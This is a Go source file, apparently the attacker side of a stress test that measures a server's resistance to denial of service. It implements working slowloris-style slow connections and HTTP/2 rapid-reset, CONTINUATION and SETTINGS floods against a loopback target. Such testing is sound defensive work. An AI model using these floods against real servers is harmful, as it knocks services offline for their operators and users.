package main

import (
	"bytes"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"io"
	"net"
	"os"
	"os/exec"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// slowEach is the number of slow connections of each kind: 2,000, or what SALLYPORT_SLOW says for a smaller machine.
func slowEach() int {
	if n, err := strconv.Atoi(os.Getenv("SALLYPORT_SLOW")); err == nil {
		return n
	}
	return 2000
}

// attack is so many attackers of each kind, and how many of their connections are held before the measurement begins.
type attack struct {
	name  string
	force map[string]int
	held  int
}

var attacks = []attack{
	{"slow heads, bodies, readers", map[string]int{"head": slowEach(), "body": slowEach(), "reader": slowEach()}, 3 * slowEach() * 95 / 100},
	{"rapid reset", map[string]int{"reset": 8}, 0},
	{"CONTINUATION", map[string]int{"continuation": 8}, 0},
	{"SETTINGS", map[string]int{"settings": 8}, 0},
}

// orders are what a process of attackers is told on its standard input. It attacks until that ends.
type orders struct {
	Target, Token, Other, Roots string // Other is the token of somebody else than good clients
	Force                       map[string]int
}

// losses are what it tells on its standard output, four times a second: connections held now, those that were ended,
// attempts that failed, and pieces of floods that were written.
type losses struct{ Held, Cut, Denied, Pieces int64 }

// besiege is the process of attackers.
func besiege() {
	var o orders
	if json.NewDecoder(os.Stdin).Decode(&o) != nil {
		return
	}
	f := &force{orders: o, quit: make(chan struct{}), roots: x509.NewCertPool()}
	f.roots.AppendCertsFromPEM([]byte(o.Roots))
	for kind, n := range o.Force {
		for range n {
			f.enlist(kind)
		}
	}
	go func() {
		for out := json.NewEncoder(os.Stdout); f.pause(250 * time.Millisecond); {
			_ = out.Encode(losses{f.held.Load(), f.cut.Load(), f.denied.Load(), f.pieces.Load()})
		}
	}()
	_, _ = io.Copy(io.Discard, os.Stdin)
	close(f.quit)
	f.all.Wait()
}

// besiegers are such a process. They have machines of their own elsewhere: here they get what the others leave of the processors, with all
// their threads, which a process that runs already can't say of itself.
type besiegers struct {
	command *exec.Cmd
	orders  io.Closer
	told    atomic.Pointer[losses]
	done    chan struct{}
}

func (s *siege) besiege(a attack) *besiegers {
	b := &besiegers{command: exec.Command("nice", "-n", "19", "besiege"), done: make(chan struct{})}
	b.told.Store(new(losses))
	in, err := b.command.StdinPipe()
	if err != nil {
		s.t.Fatal(err)
	}
	out, err := b.command.StdoutPipe()
	if err != nil {
		s.t.Fatal(err)
	}
	b.orders, b.command.Stderr = in, os.Stderr
	if err := b.command.Start(); err != nil {
		s.t.Fatal(err)
	}
	if err := json.NewEncoder(in).Encode(orders{s.target, s.token, s.other, s.rootsPEM, a.force}); err != nil {
		s.t.Fatal(err)
	}
	go func() {
		defer close(b.done)
		for d := json.NewDecoder(out); ; {
			var l losses
			if d.Decode(&l) != nil {
				return
			}
			b.told.Store(&l)
		}
	}()
	return b
}

func (b *besiegers) disband() {
	b.orders.Close()
	<-b.done
	_ = b.command.Wait() // how it ended means nothing
}

// force is attackers at work.
type force struct {
	orders
	roots                     *x509.CertPool
	quit                      chan struct{}
	all                       sync.WaitGroup
	held, cut, denied, pieces atomic.Int64
	number, asked             atomic.Int64
}

// pause reports whether the attack goes on.
func (f *force) pause(d time.Duration) bool {
	select {
	case <-f.quit:
		return false
	case <-time.After(d):
		return true
	}
}

// alone are kinds of attackers that go their own way.
var alone = map[string]func(*force, int64){"handshakes": (*force).shake, "QUIC": (*force).shakeQUIC, "HTTP/3": (*force).askHTTP3}

// enlist lets one more attacker come again whenever it was cut. The first comings are spread over time.
func (f *force) enlist(kind string) {
	n := f.number.Add(1)
	switch {
	case alone[kind] != nil:
		alone[kind](f, n)
		return
	case requests[kind] != nil:
		f.ask(kind, n)
		return
	}
	f.all.Go(func() {
		for wait := time.Duration(n) * 3 * time.Millisecond; f.pause(wait); wait = 500 * time.Millisecond {
			protocol := "http/1.1"
			if floods[kind] != nil {
				protocol = "h2"
			}
			c, err := f.dial(n, protocol)
			if err != nil {
				f.denied.Add(1)
				continue
			}
			f.held.Add(1)
			over := make(chan struct{})
			go func() {
				select {
				case <-f.quit:
					c.NetConn().Close() // whatever it waits for
				case <-over:
				}
			}()
			if floods[kind] != nil {
				f.flood(c, floods[kind])
			} else {
				f.dawdle(c, kind)
			}
			close(over)
			c.NetConn().Close()
			f.held.Add(-1)
			f.cut.Add(1)
		}
	})
}

// dial opens a TLS connection from one of sixteen addresses, none of which is that of good clients. It does not spend
// itself on verifying who is attacked.
func (f *force) dial(n int64, protocol string) (*tls.Conn, error) {
	return f.dialFrom(net.IPv4(127, 0, 1, byte(n%16+1)), protocol)
}

func (f *force) dialFrom(ip net.IP, protocol string) (*tls.Conn, error) {
	d := &net.Dialer{Timeout: 5 * time.Second, LocalAddr: &net.TCPAddr{IP: ip}}
	c, err := d.Dial("tcp", f.Target)
	if err != nil {
		return nil, err
	}
	_ = c.(*net.TCPConn).SetReadBuffer(4096)
	secure := tls.Client(c, &tls.Config{InsecureSkipVerify: true, ServerName: "127.0.0.1", NextProtos: []string{protocol}})
	_ = secure.SetDeadline(time.Now().Add(10 * time.Second))
	if err := secure.Handshake(); err != nil {
		c.Close()
		return nil, err
	}
	return secure, secure.SetDeadline(time.Time{})
}

// dawdle sends, or reads, a little each second until it is cut or the attack ends.
func (f *force) dawdle(c *tls.Conn, kind string) {
	begin := map[string]string{
		"head":   "GET /orders HTTP/1.1\r\nHost: api\r\n",
		"body":   "POST /orders HTTP/1.1\r\nHost: api\r\nAuthorization: " + f.Token + "\r\nContent-Type: application/json\r\nContent-Length: 10000\r\n\r\n{\"a\":\"",
		"reader": "GET /big HTTP/1.1\r\nHost: api\r\nAuthorization: " + f.Token + "\r\n\r\n",
	}[kind]
	more := map[string]string{"head": "X-A: b\r\n", "body": "x"}[kind]
	_, err := io.WriteString(c, begin)
	for one := make([]byte, 1); err == nil && f.pause(time.Second); {
		if more != "" {
			_, err = io.WriteString(c, more)
		} else {
			_, err = c.Read(one)
		}
	}
}

// floods are what attackers send over HTTP/2, again and again; n counts.
var floods = map[string]func(fr *http2.Framer, n uint32) error{
	"reset": func(fr *http2.Framer, n uint32) error {
		id := 2*n + 1
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: requestBlock, EndHeaders: true, EndStream: true}); err != nil {
			return err
		}
		return fr.WriteRSTStream(id, http2.ErrCodeCancel)
	},
	"continuation": func(fr *http2.Framer, n uint32) error {
		if n == 0 {
			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: requestBlock})
		}
		return fr.WriteContinuation(1, false, []byte{0, 1, 'x', 1, 'y'})
	},
	"settings": func(fr *http2.Framer, _ uint32) error {
		return fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	},
}

var requestBlock = func() []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "api"}, {":path", "/orders"}} {
		_ = e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}) // to memory
	}
	return b.Bytes()
}()

// flood sends 2,000 pieces a second until it is cut or the attack ends.
func (f *force) flood(c *tls.Conn, piece func(*http2.Framer, uint32) error) {
	go func() { _, _ = io.Copy(io.Discard, c) }()
	var out bytes.Buffer
	fr := http2.NewFramer(&out, nil)
	fr.AllowIllegalWrites = true
	_, err := io.WriteString(c, http2.ClientPreface)
	_ = fr.WriteSettings()
	for n := uint32(0); err == nil && f.pause(50*time.Millisecond); {
		for range 100 {
			_ = piece(fr, n) // to memory
			n++
		}
		f.pieces.Add(100)
		_ = c.SetWriteDeadline(time.Now().Add(5 * time.Second))
		_, err = c.Write(out.Bytes())
		out.Reset()
	}
}
